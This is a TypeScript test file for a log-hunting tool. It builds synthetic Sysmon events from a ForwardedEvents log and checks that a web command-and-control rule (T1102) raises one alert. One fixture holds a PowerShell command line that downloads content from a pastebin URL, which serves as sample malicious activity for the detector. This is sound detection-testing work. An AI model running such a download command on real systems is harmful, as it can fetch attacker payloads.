import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { cli, jsonLines } from '../../cli/run-cli.js';
import { ChunkWriter, el, evtxFile, text } from './builder.js';
import { scratchDir } from '../../helpers.js';

/** A Sysmon event as Windows Event Forwarding stores it: channel ForwardedEvents, provider Sysmon. */
function forwarded(
  id: number,
  eventId: number,
  data: Record<string, string>,
): Parameters<ChunkWriter['record']>[1] {
  return el(
    'Event',
    [],
    [
      el(
        'System',
        [],
        [
          el('Provider', [['Name', [text('Microsoft-Windows-Sysmon')]]], null),
          el('EventID', [], [text(String(eventId))]),
          el('TimeCreated', [['SystemTime', [text('2026-05-04T10:00:00.0000000Z')]]], null),
          el('EventRecordID', [], [text(String(id))]),
          el('Channel', [], [text('ForwardedEvents')]),
          el('Computer', [], [text('WKS-9.corp.example')]),
        ],
      ),
      el(
        'EventData',
        [],
        Object.entries(data).map(([k, v]) => el('Data', [['Name', [text(k)]]], [text(v)])),
      ),
    ],
  );
}

describe('Sysmon records in a ForwardedEvents log', () => {
  it('normalise like any Sysmon log and reach the rules', async () => {
    const ps = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
    const guid = '{0a0b0c0d-0000-0000-0000-000000000001}';
    const w = new ChunkWriter();
    w.record(
      1,
      forwarded(1, 1, {
        UtcTime: '2026-05-04 10:00:00.000',
        ProcessGuid: guid,
        ProcessId: '4321',
        Image: ps,
        CommandLine: 'powershell iwr https://pastebin.com/raw/Fw1',
        ParentImage: 'C:\\Windows\\explorer.exe',
      }),
    );
    w.record(
      2,
      forwarded(2, 22, {
        UtcTime: '2026-05-04 10:00:00.100',
        ProcessGuid: guid,
        ProcessId: '4321',
        Image: ps,
        QueryName: 'pastebin.com',
        QueryStatus: '0',
        QueryResults: '::ffff:104.20.67.143;',
      }),
    );
    w.record(
      3,
      forwarded(3, 3, {
        UtcTime: '2026-05-04 10:00:00.200',
        ProcessGuid: guid,
        ProcessId: '4321',
        Image: ps,
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIp: '10.0.0.9',
        SourcePort: '50123',
        DestinationIp: '104.20.67.143',
        DestinationPort: '443',
      }),
    );
    const file = path.join(scratchDir('webc2-wef-'), 'ForwardedEvents.evtx');
    writeFileSync(file, evtxFile([w.finish(3)]));
    const run = await cli('hunt', file, '-r', 'webc2-t1102', '-f', 'jsonl');
    assert.equal(run.code, 0, run.stderr);
    assert.match(run.stderr, /3 read = 3 kept/);
    const alerts = jsonLines(run.stdout);
    assert.equal(alerts.length, 1);
    assert.equal(alerts[0]!['FileName'], 'powershell.exe');
    assert.equal(alerts[0]!['RemoteUrl'], 'pastebin.com');
    assert.deepEqual((alerts[0]!['Evidence'] as { Kind: string }[]).map((e) => e.Kind).sort(), [
      'command line',
      'connection',
      'dns',
    ]);
  });
});
